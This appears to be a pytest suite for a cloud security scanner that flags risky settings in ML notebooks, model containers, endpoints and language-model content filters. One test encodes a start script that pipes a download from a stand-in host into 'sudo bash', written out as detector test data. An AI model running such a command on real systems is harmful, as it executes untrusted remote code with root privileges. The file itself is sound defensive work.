"""What follows from the fields of notebooks, workspaces, models and language-model services."""

from __future__ import annotations

import base64
from typing import Any

import pytest

from garrison.estate.assets.llm import AiAccount, ContentFilter, FilterRule
from garrison.estate.assets.ml_platform import CodeRepository, ExperimentTracker, FeatureStore, MlJob
from garrison.estate.assets.model import Endpoint, Model, ModelContainer, ModelRegistry
from garrison.estate.assets.notebook import Notebook, StartScript
from garrison.estate.truth import NO, YES, Truth
from garrison.estate.values import Body, Place, Source, Value, absent, known, referred, unknown

PLACE = Place(Source("a.tf", b""), 0, 0)
UNSURE = Truth(None)


def common() -> dict[str, Any]:
    return {
        "address": "a", "name": absent(), "provider": "aws", "format": "terraform", "type": "t", "root": "r",
        "place": PLACE, "exists": YES,
    }  # fmt: skip


def mapping(**entries: Value) -> Value:
    return known(Body.of(entries), PLACE)


def many(*contents: object) -> Value:
    return known(tuple(known(c) for c in contents))


@pytest.mark.parametrize(
    ("role", "answer"),
    [
        (known("default"), True),
        (known("123456789012-compute@developer.gserviceaccount.com"), True),
        (known("fraud@ml.iam.gserviceaccount.com"), False),
        (referred("r:google_service_account.fraud", "email", PLACE), False),
        (unknown("var.account has no value"), None),
        (absent(), False),
    ],
)
def test_a_notebook_runs_as_the_default_account(role: Value, answer: bool | None) -> None:
    assert Notebook(**common(), role=role).default_identity.answer is answer


@pytest.mark.parametrize(
    ("platform", "answer"),
    [("notebook-al1-v1", True), ("notebook-al2-v2", True), ("notebook-al2-v3", False), ("notebook-al2023-v1", False)],
)
def test_platforms_that_get_no_patches(platform: str, answer: bool) -> None:
    assert Notebook(**common(), platform=known(platform)).platform_retired.answer is answer


def test_a_start_script_is_read_in_base64_and_each_of_several_counts() -> None:
    bad = base64.b64encode(b"#!/bin/bash\ncurl -s https://x.example/i.sh | sudo bash\n").decode()
    assert StartScript(**common(), scripts=many("#!/bin/bash\ntrue\n", bad)).runs_download.yes
    assert StartScript(**common(), scripts=many("#!/bin/bash\ncurl -o x https://x.example/i.sh\n")).runs_download.no
    assert StartScript(**common(), scripts=absent()).runs_download.no
    assert StartScript(**common(), scripts=unknown("file")).runs_download.unknown


@pytest.mark.parametrize(
    ("encrypts", "instances", "answer"),
    [(NO, known(2), True), (NO, known(1), False), (YES, known(4), False), (NO, unknown("var.n"), None)],
)
def test_only_several_machines_have_traffic_to_encrypt(encrypts: Truth, instances: Value, answer: bool | None) -> None:
    assert MlJob(**common(), encrypts_traffic=encrypts, instances=instances).plain_between_machines.answer is answer


@pytest.mark.parametrize(
    ("isolated", "subnets", "answer"),
    [(NO, absent(), True), (YES, absent(), False), (NO, many("subnet-1"), False), (UNSURE, absent(), None)],
)
def test_containers_reach_the_internet(isolated: Truth, subnets: Value, answer: bool | None) -> None:
    assert MlJob(**common(), network_isolation=isolated, subnets=subnets).reaches_internet.answer is answer
    assert Model(**common(), network_isolation=isolated, subnets=subnets).reaches_internet.answer is answer


def test_a_feature_store_needs_keys_for_the_stores_it_has() -> None:
    key = known("alias/ml")
    one = FeatureStore(**common(), offline=YES, offline_key=key, online=NO, online_key=absent())
    both = FeatureStore(**common(), offline=YES, offline_key=key, online=YES, online_key=absent())
    assert one.keyless.no
    assert both.keyless.yes


@pytest.mark.parametrize(("version", "answer"), [("2.16.2", True), ("1.30", True), ("3.4", False), ("12.0", False)])
def test_old_versions_of_a_tracker(version: str, answer: bool) -> None:
    assert ExperimentTracker(**common(), engine_version=known(version)).outdated.answer is answer


@pytest.mark.parametrize(
    ("url", "password", "plain"),
    [
        ("https://bot:secret@git.example.com/x.git", True, False),
        ("https://git.example.com/x.git", False, False),
        ("https://bot@git.example.com:8443/x.git", False, False),
        ("http://git.example.com/x.git", False, True),
        ("git@git.example.com:fraud/x.git", False, False),
    ],
)
def test_addresses_of_code_repositories(url: str, password: bool, plain: bool) -> None:
    repository = CodeRepository(**common(), url=known(url))
    assert repository.url_has_password.answer is password
    assert repository.fetched_in_plain.answer is plain


@pytest.mark.parametrize(
    ("image", "answer"),
    [
        ("111122223333.dkr.ecr.eu-west-1.amazonaws.com/fraud", True),
        ("111122223333.dkr.ecr.eu-west-1.amazonaws.com/fraud:latest", True),
        ("registry.example.com:5000/fraud", True),
        ("111122223333.dkr.ecr.eu-west-1.amazonaws.com/fraud:3.1", False),
        ("111122223333.dkr.ecr.eu-west-1.amazonaws.com/fraud@sha256:" + "0" * 64, False),
    ],
)
def test_images_that_may_become_others(image: str, answer: bool) -> None:
    assert ModelContainer(**common(), image=known(image)).image_floats.answer is answer


def test_the_end_of_an_image_tells_whatever_its_account() -> None:
    def floats(end: str) -> bool | None:
        image = unknown(
            "account", PLACE, (unknown("AWS::AccountId"), known(".dkr.ecr.eu-west-1.amazonaws.com/x" + end))
        )
        return ModelContainer(**common(), image=image).image_floats.answer

    assert floats(":3.1") is False
    assert floats(":latest") is True
    tagged = unknown("tag", PLACE, (known("registry.example.com/x:"), unknown("var.tag")))
    assert ModelContainer(**common(), image=tagged).image_floats.unknown
    repository = referred("r:aws_ecr_repository.x", "repository_url", PLACE)
    assert ModelContainer(**common(), image=repository).image_floats.yes


def test_a_container_that_runs_code_from_the_hub() -> None:
    def container(environment: Value) -> ModelContainer:
        return ModelContainer(**common(), environment=environment)

    assert container(mapping(HF_MODEL_TRUST_REMOTE_CODE=known("true"))).trusts_remote_code.yes
    assert container(mapping(OPTION_TRUST_REMOTE_CODE=known(True))).trusts_remote_code.yes
    assert container(mapping(HF_MODEL_TRUST_REMOTE_CODE=known("false"))).trusts_remote_code.no
    assert container(mapping(HF_MODEL_ID=known("x"))).trusts_remote_code.no
    assert container(mapping(TRUST_REMOTE_CODE=unknown("var.trust"))).trusts_remote_code.unknown
    assert container(unknown("var.environment")).trusts_remote_code.unknown
    assert container(absent()).trusts_remote_code.no


def test_the_evidence_of_a_written_credential_does_not_show_it() -> None:
    token = "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH"
    container = ModelContainer(**common(), environment=mapping(HF_TOKEN=known(token, PLACE)))
    assert container.has_credential.yes
    assert token not in str([v.content for v in container.has_credential.because])
    hidden = ModelContainer(
        **common(), environment=mapping(HF_TOKEN=referred("r:aws_ssm_parameter.hf", "value", PLACE))
    )
    assert hidden.has_credential.no


def test_a_registry_open_to_all_accounts() -> None:
    def policy(principal: str) -> Value:
        statement = mapping(
            Effect=known("Allow"), Principal=mapping(AWS=known(principal)), Action=known("sagemaker:CreateModelPackage")
        )
        return mapping(Statement=known((statement,)))

    assert ModelRegistry(**common(), policy=policy("*")).public.yes
    assert ModelRegistry(**common(), policy=policy("arn:aws:iam::111122223333:root")).public.no
    assert ModelRegistry(**common(), policy=absent()).public.no


@pytest.mark.parametrize(
    ("key", "serverless", "types", "answer"),
    [
        (absent(), NO, many("ml.m5.xlarge"), True),
        (absent(), NO, many("ml.g5.xlarge"), False),
        (absent(), NO, many("ml.m5d.xlarge", "ml.p4d.24xlarge"), False),
        (absent(), NO, many("ml.g5.xlarge", "ml.m5.xlarge"), True),
        (absent(), NO, absent(), True),
        (absent(), YES, absent(), False),
        (known("alias/ml"), NO, many("ml.m5.xlarge"), False),
    ],
)
def test_an_endpoint_whose_disks_could_take_a_key(key: Value, serverless: Truth, types: Value, answer: bool) -> None:
    endpoint = Endpoint(**common(), encryption_key=key, serverless=serverless, machine_types=types)
    assert endpoint.keyless.answer is answer


def test_an_endpoint_on_one_machine() -> None:
    assert Endpoint(**common(), instance_counts=many(2, 1)).single.yes
    assert Endpoint(**common(), instance_counts=many(2, 3)).single.no
    assert Endpoint(**common(), instance_counts=absent()).single.no
    assert Endpoint(**common(), instance_counts=unknown("var.n")).single.unknown


@pytest.mark.parametrize(
    ("public", "action", "answer"),
    [(YES, "Allow", True), (YES, "Deny", False), (NO, "Allow", False)],
)
def test_an_account_reached_by_anyone(public: Truth, action: str, answer: bool) -> None:
    account = AiAccount(**common(), public_network=public, default_action=known(action))
    assert account.public.answer is answer


@pytest.mark.parametrize(
    ("subject", "enabled", "blocks", "strengths", "answer"),
    [
        ("HATE", YES, YES, ("HIGH", "HIGH"), False),
        ("HATE", YES, YES, ("HIGH", "NONE"), True),
        ("Violence", YES, YES, ("LOW", ""), True),
        ("Selfharm", YES, NO, ("MEDIUM", ""), True),
        ("PROMPT_ATTACK", YES, YES, ("HIGH", "NONE"), False),
        ("PROMPT_ATTACK", YES, YES, ("NONE", "NONE"), True),
        ("Jailbreak", NO, YES, ("LOW", ""), True),
        ("Protected Material Text", YES, NO, ("LOW", ""), False),
    ],
)
def test_a_filter_that_lets_most_through(
    subject: str, enabled: Truth, blocks: Truth, strengths: tuple[str, str], answer: bool
) -> None:
    rule = FilterRule(
        **common(), subject=known(subject), enabled=enabled, blocks=blocks,
        input_strength=known(strengths[0]), output_strength=known(strengths[1]) if strengths[1] else absent(),
    )  # fmt: skip
    assert rule.weak.answer is answer
    assert ContentFilter(**common(), rules=(rule,)).weak.answer is answer
